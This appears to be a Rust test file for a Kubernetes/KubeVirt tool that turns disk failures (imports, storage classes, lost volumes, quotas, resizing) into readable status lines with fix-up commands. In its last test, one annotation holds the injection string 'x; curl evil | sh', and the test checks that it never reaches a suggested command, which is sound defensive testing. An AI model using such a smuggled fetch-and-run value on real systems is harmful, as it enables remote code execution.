//! What can be the matter with disks, in the lines that a person reads.

use serde_json::{Value, json};
use wukong::facts::Unread;
use wukong::status::Health;

use super::world::{World, case, told};

fn importing(phase: &str, restarts: u64, reason: &str, message: &str) -> Value {
    json!({
        "phase": phase, "progress": "N/A", "restartCount": restarts,
        "conditions": [
            {"type": "Bound", "status": "True", "reason": "Bound"},
            {"type": "Running", "status": "False", "reason": reason, "message": message},
        ],
    })
}

#[test]
fn imports() {
    case(
        World::starting(),
        |w| {
            w.filling(importing("ImportInProgress", 0, "ImagePullFailed", "failed to pull image: manifest unknown"));
        },
        "  ✗ disk system: its image cannot be pulled: failed to pull image: manifest unknown
    → check the image's name and that the cluster may pull it (`imageSecret`)
",
    );
    case(
        World::starting(),
        |w| {
            w.filling(importing("ImportInProgress", 2, "Error", "connection reset by peer"));
        },
        "  … disk system: the import failed 2 times and is tried again: connection reset by peer
    → kubectl logs -n prod -l cdi.kubevirt.io=importer
",
    );
    case(World::starting(), |w| {
        w.filling(importing("ImportInProgress", 5, "Error", "expected status code 200, got 404. Status: 404 Not Found"));
    }, "  ✗ disk system: the import failed 5 times and is tried again: expected status code 200, got 404. Status: 404 Not Found
    → check the image's address; correct the file, then make the disk anew, which is empty so far: kubectl wukong delete web -n prod --delete-data system deletes the machine with this disk and keeps the others, kubectl wukong apply -f FILE -n prod --adopt makes both again
");
    case(World::starting(), |w| {
        w.filling(importing("Failed", 1, "Error", "checksum mismatch: expected sha256:1, got sha256:2"));
    }, "  ✗ disk system: the image is not the one of the checksum: checksum mismatch: expected sha256:1, got sha256:2
    → correct the file, then make the disk anew, which is empty so far: kubectl wukong delete web -n prod --delete-data system deletes the machine with this disk and keeps the others, kubectl wukong apply -f FILE -n prod --adopt makes both again
");
    case(World::starting(), |w| {
        w.filling(importing("ImportInProgress", 3, "Error", "DataVolume too small to contain image"));
    }, "  ✗ disk system: the image is larger than the disk: DataVolume too small to contain image
    → raise its `size`; correct the file, then make the disk anew, which is empty so far: kubectl wukong delete web -n prod --delete-data system deletes the machine with this disk and keeps the others, kubectl wukong apply -f FILE -n prod --adopt makes both again
");
    case(World::starting(), |w| {
        w.filling(importing("Failed", 0, "Error", "unsupported format"));
    }, "  ✗ disk system: it could not be filled: unsupported format
    → correct the file, then make the disk anew, which is empty so far: kubectl wukong delete web -n prod --delete-data system deletes the machine with this disk and keeps the others, kubectl wukong apply -f FILE -n prod --adopt makes both again
");
    case(
        World::starting(),
        |w| {
            w.filling(json!({"phase": "ImportInProgress", "progress": "42.1%", "restartCount": 0}));
        },
        "  … disk system: it is being filled (ImportInProgress, 42.1%)
",
    );
}

#[test]
fn an_import_that_stands() {
    let at = |time: &str| {
        let mut world = World::starting();
        world.filling(json!({
            "phase": "ImportInProgress", "progress": "37.0%", "restartCount": 0,
            "conditions": [{"type": "Running", "status": "True", "reason": "TransferRunning", "lastHeartbeatTime": time}],
        }));
        world.edit(
            "PersistentVolumeClaim",
            "web-system",
            "/metadata/annotations",
            json!({
                "cdi.kubevirt.io/storage.import.importPodName": "importer-prime-1",
            }),
        );
        told(&world.status())
    };
    assert_eq!(
        at("2026-01-01T11:48:00Z"),
        "  ✗ disk system: the import stands at 37.0% since 12m
    → kubectl logs -n prod importer-prime-1
"
    );
    assert_eq!(at("2026-01-01T11:59:00Z"), "  … disk system: it is being filled (ImportInProgress, 37.0%)\n");
}

#[test]
fn scratch_space() {
    case(World::starting(), |w| {
        w.filling(json!({"phase": "ImportScheduled", "progress": "N/A", "restartCount": 0}));
        w.add(json!({
            "apiVersion": "v1", "kind": "PersistentVolumeClaim", "status": {"phase": "Pending"},
            "metadata": {"name": "prime-uid-web-system-scratch", "namespace": "prod"}, "spec": {},
        }));
        w.warn("prime-uid-web-system-scratch", "ProvisioningFailed", "storageclass.storage.k8s.io \"gone\" not found");
    }, "  ✗ disk system: the importer has no scratch space: claim prime-uid-web-system-scratch: storageclass.storage.k8s.io \"gone\" not found
    → set `scratchSpaceStorageClass` in the CDI object to a class that makes file systems
");
}

#[test]
fn classes() {
    case(
        World::starting(),
        |w| {
            w.unbound("web-data").edit("PersistentVolumeClaim", "web-data", "/spec/storageClassName", json!("fats"));
        },
        "  ✗ disk data: class fats does not exist
    → set `storageClassName` to one of: fast
",
    );
    case(World::starting(), |w| {
        w.unbound("web-data").edit("PersistentVolumeClaim", "web-data", "/spec/storageClassName", Value::Null);
        w.edit("StorageClass", "fast", "/metadata/annotations", json!({}));
    }, "  ✗ disk data: the file names no class, and the cluster has no default one
    → set `storageClassName` of the disk, or make a class the default: kubectl annotate storageclass NAME storageclass.kubernetes.io/is-default-class=true
");
    // Who may not list classes cannot say that one is missing.
    case(
        World::starting(),
        |w| {
            w.unbound("web-data").edit("PersistentVolumeClaim", "web-data", "/spec/storageClassName", json!("fats"));
            w.remove("StorageClass", "fast");
            w.1.push(Unread { kind: "StorageClass".into(), namespace: None, reason: "forbidden".into() });
        },
        "  … disk data: claim web-data waits for a volume
",
    );
    case(World::starting(), |w| {
        w.remove("PersistentVolumeClaim", "web-system").filling(json!({"phase": "Pending", "conditions": [
            {"type": "Bound", "status": "False", "reason": "ErrClaimNotValid", "message": "PVC spec is missing accessMode and no storageClass to choose profile"},
        ]}));
    }, "  ✗ disk system: CDI makes no claim, because it does not know what class fast can do: PVC spec is missing accessMode and no storageClass to choose profile
    → set `accessMode` (and `volumeMode`) of the disk, or claimPropertySets in the StorageProfile
");
}

#[test]
fn claims() {
    case(
        World::starting(),
        |w| {
            w.remove("PersistentVolumeClaim", "web-data");
        },
        "  ✗ disk data: claim web-data does not exist
    → apply the Wukong file to make it, empty; if it held data, restore that first
",
    );
    case(
        World::starting(),
        |w| {
            w.edit("PersistentVolumeClaim", "web-data", "/status/phase", json!("Lost"));
            w.remove("PersistentVolume", "pv-web-data");
        },
        "  ✗ disk data: claim web-data is Lost: volume pv-web-data is gone from the cluster
    → make the volume again under its old name (the storage may still have the data), or restore a backup
",
    );
    case(World::starting(), |w| {
        w.edit("PersistentVolumeClaim", "web-data", "/status", json!({"phase": "Pending"}));
        w.edit("PersistentVolume", "pv-web-data", "/status/phase", json!("Released"));
        w.edit("PersistentVolume", "pv-web-data", "/spec/claimRef/uid", json!("old"));
    }, "  ✗ disk data: volume pv-web-data is Released: it still belongs to a claim that was deleted, so that claim web-data does not get it
    → if it is the right one: kubectl patch pv pv-web-data --type merge -p '{\"spec\":{\"claimRef\":{\"namespace\":\"prod\",\"name\":\"web-data\",\"uid\":null,\"resourceVersion\":null}}}'
");
    case(
        World::starting(),
        |w| {
            w.unbound("web-data").warn("web-data", "ProvisioningFailed", "rpc error: no space on any node");
        },
        "  ✗ disk data: class fast could not make the volume: rpc error: no space on any node
    → kubectl describe pvc -n prod web-data
",
    );
    case(
        World::running(),
        |w| {
            w.add(json!({
            "apiVersion": "kubevirt.io/v1", "kind": "VirtualMachine", "metadata": {"name": "other", "namespace": "prod"},
            "spec": {"template": {"spec": {"volumes": [{"name": "x", "persistentVolumeClaim": {"claimName": "web-data"}}]}}},
        }));
        },
        "  ✗ disk data: claim web-data is also used by VirtualMachine other; two writers destroy a file system
    → stop one of them and take the disk from it
",
    );
    case(
        World::running(),
        |w| {
            w.edit("PersistentVolumeClaim", "web-data", "/metadata/deletionTimestamp", json!("2026-01-01T11:00:00Z"));
        },
        "  ✗ disk data: claim web-data is being deleted, and goes as soon as the machine stops
    → do not stop the machine before its data is copied: a deletion cannot be taken back
",
    );
}

#[test]
fn quotas() {
    case(World::starting(), |w| {
        w.remove("PersistentVolumeClaim", "web-system").filling(json!({"phase": "Pending", "conditions": [
            {"type": "Bound", "status": "False", "reason": "ErrExceededQuota", "message": "exceeded quota: small, requested: requests.storage=20Gi"},
        ]}));
    }, "  ✗ disk system: the quota of the namespace is used up: exceeded quota: small, requested: requests.storage=20Gi
    → raise the ResourceQuota, or free some of it
");
    case(
        World::starting(),
        |w| {
            w.edit("VirtualMachine", "web-vm", "/status/conditions", json!([
            {"type": "Failure", "status": "True", "reason": "FailedCreate", "message": "pods \"x\" is forbidden: exceeded quota: small"},
        ]));
        },
        "  ✗ the quota of the namespace is used up: pods \"x\" is forbidden: exceeded quota: small
    → raise the ResourceQuota, or free some of it
",
    );
}

/// A disk that its file has no more.
fn given_up(w: &mut World) {
    w.record(|record| {
        record.claims.insert("old".into(), "web-old".into());
        record.lists.entry("volumes".into()).or_default().insert("data".into(), json!({"name": "data"}));
    });
}

#[test]
fn disks_that_are_not_attached() {
    case(
        World::running(),
        |w| {
            w.record(|record| _ = record.claims.insert("old".into(), "web-old".into()));
        },
        "  ✗ disk old: it was taken from the machine; claim web-old is kept
    → apply the Wukong file to attach it again, or take it out of the file
",
    );
    // As above, but it was detached because its file has it no more. Once its claim is gone too, nobody speaks of it.
    case(
        World::running(),
        |w| {
            given_up(w);
            let mut claim = w.object("PersistentVolumeClaim", "web-data").clone();
            claim["metadata"]["name"] = json!("web-old");
            w.add(claim);
        },
        "  · disk old: its file has it no more; claim web-old is kept, with its data
    → kubectl delete pvc web-old -n prod deletes it for ever
",
    );
    case(World::running(), given_up, "");
    case(
        World::running(),
        |w| {
            let volumes = &mut w.object("VirtualMachineInstance", "web-vm")["spec"]["volumes"];
            volumes.as_array_mut().unwrap().remove(1);
        },
        "  ✗ disk data: the running machine does not have it
    → kubectl wukong restart web -n prod
",
    );
    case(
        World::running(),
        |w| {
            w.edit("VirtualMachineInstance", "web-vm", "/status/volumeStatus/1", json!(
            {"name": "data", "hotplugVolume": {}, "phase": "AttachedToNode", "message": "Created hotplug attachment pod"}
        ));
        },
        "  … disk data: it is being attached (AttachedToNode): Created hotplug attachment pod
",
    );
}

#[test]
fn growth() {
    fn ask(world: &mut World) -> &mut World {
        world.edit("PersistentVolumeClaim", "web-data", "/spec/resources/requests/storage", json!("60Gi"))
    }
    case(
        World::running(),
        |w| {
            ask(w);
        },
        "  … disk data: grows from 50Gi to 60Gi: waits for the storage's controller
",
    );
    case(
        World::running(),
        |w| {
            ask(w).edit(
                "PersistentVolumeClaim",
                "web-data",
                "/status/conditions",
                json!([{"type": "FileSystemResizePending", "status": "True"}]),
            );
        },
        "  … disk data: grows from 50Gi to 60Gi: waits for the node
",
    );
    case(
        World::stopped(),
        |w| {
            ask(w).edit(
                "PersistentVolumeClaim",
                "web-data",
                "/status/conditions",
                json!([{"type": "FileSystemResizePending", "status": "True"}]),
            );
        },
        "  · disk data: 50Gi; grows to 60Gi at the next start
    → kubectl wukong start web -n prod
",
    );
    case(
        World::running(),
        |w| {
            ask(w).edit("PersistentVolumeClaim", "web-data", "/status/capacity/storage", json!("60Gi"));
            w.edit(
                "VirtualMachineInstance",
                "web-vm",
                "/status/volumeStatus/1/persistentVolumeClaimInfo",
                json!(
                    {"claimName": "web-data", "capacity": {"storage": "50Gi"}}
                ),
            );
        },
        "  … disk data: 60Gi; the machine still knows 50Gi
    → if it stays so: kubectl wukong restart web -n prod
",
    );
    case(
        World::running(),
        |w| {
            ask(w).edit("StorageClass", "fast", "/provisioner", json!("rancher.io/local-path"));
        },
        "  ✗ disk data: it cannot grow: rancher.io/local-path: it has no resizer: a directory of the node has no size
    → move it to a class that grows: kubectl wukong migrate web -n prod --disk data --to-storage-class CLASS
",
    );
    case(
        World::running(),
        |w| {
            ask(w).edit(
                "PersistentVolumeClaim",
                "web-data",
                "/status/conditions",
                json!([
                    {"type": "ControllerResizeError", "status": "True", "message": "the pool is full"},
                ]),
            );
        },
        "  ✗ disk data: it cannot grow: the pool is full
    → kubectl describe pvc -n prod web-data
",
    );
}

#[test]
fn what_a_review_found() {
    // CDI calls a DataVolume failed whose claim is lost, filled as it was: nobody may be told to delete it.
    case(
        World::starting(),
        |w| {
            w.edit("PersistentVolumeClaim", "web-system", "/status/phase", json!("Lost"));
            w.edit("PersistentVolume", "pv-web-system", "/spec/claimRef/name", json!("other"));
            w.filling(json!({"phase": "Failed", "progress": "100.0%", "restartCount": 0}));
        },
        "  ✗ disk system: claim web-system is Lost: volume pv-web-system belongs to claim prod/other
    → delete neither; find out which of the two claims the data belongs to
",
    );
    // The volume of another claim is not to be taken from it.
    case(
        World::starting(),
        |w| {
            w.edit("PersistentVolumeClaim", "web-data", "/status", json!({"phase": "Pending"}));
            w.edit("PersistentVolume", "pv-web-data", "/spec/claimRef/name", json!("other"));
        },
        "  ✗ disk data: volume pv-web-data, which claim web-data wants, belongs to claim prod/other
    → let the claim name another volume; one volume is one claim's
",
    );
    // A snapshot was restored: the disk has another claim than the file.
    case(
        World::running(),
        |w| {
            w.edit(
                "VirtualMachine",
                "web-vm",
                "/spec/template/spec/volumes/1/persistentVolumeClaim/claimName",
                json!("restored"),
            );
            w.edit(
                "VirtualMachineInstance",
                "web-vm",
                "/spec/volumes/1/persistentVolumeClaim/claimName",
                json!("restored"),
            );
            w.edit("PersistentVolumeClaim", "web-data", "/metadata/name", json!("restored"));
        },
        "  ✗ disk data: it lies on claim restored now, the file knows claim web-data
    → set `claimName: restored` in the file before it is applied again, or it goes back to the old one
",
    );
    // A failed import is told also where the class waits for a pod and the machine is stopped.
    case(
        World::stopped(),
        |w| {
            w.edit("StorageClass", "fast", "/volumeBindingMode", json!("WaitForFirstConsumer"));
            w.filling(importing("Failed", 0, "Error", "unsupported format"));
        },
        "  ✗ disk system: it could not be filled: unsupported format
    → correct the file, then make the disk anew, which is empty so far: kubectl wukong delete web -n prod --delete-data system deletes the machine with this disk and keeps the others, kubectl wukong apply -f FILE -n prod --adopt makes both again
",
    );
    // Two machines may have one CD in their drives.
    let mut world = World::running();
    world.edit(
        "VirtualMachine",
        "web-vm",
        "/spec/template/spec/domain/devices/disks/1",
        json!({"name": "data", "cdrom": {}}),
    );
    world.edit(
        "VirtualMachineInstance",
        "web-vm",
        "/spec/domain",
        json!({"devices": {"disks": [{"name": "data", "cdrom": {}}]}}),
    );
    world.add(json!({
        "apiVersion": "kubevirt.io/v1", "kind": "VirtualMachine", "metadata": {"name": "other", "namespace": "prod"},
        "spec": {"template": {"spec": {
            "domain": {"devices": {"disks": [{"name": "x", "cdrom": {}}]}},
            "volumes": [{"name": "x", "persistentVolumeClaim": {"claimName": "web-data"}}],
        }}},
    }));
    assert_eq!(told(&world.status()), "");
    // A name that a stranger wrote is not put into a command.
    let mut world = World::starting();
    world.filling(importing("ImportInProgress", 1, "Error", "reset"));
    world.edit(
        "PersistentVolumeClaim",
        "web-system",
        "/metadata/annotations",
        json!({
            "cdi.kubevirt.io/storage.import.importPodName": "x; curl evil | sh",
        }),
    );
    assert!(!told(&world.status()).contains("curl"));
    // Machines that may not be read are not missing.
    let mut world = World::running();
    world.remove("VirtualMachine", "web-vm");
    world.1.push(Unread { kind: "VirtualMachine".into(), namespace: None, reason: "forbidden".into() });
    let status = world.status();
    assert!(status.causes.is_empty() && status.health() == Health::Unknown);
}
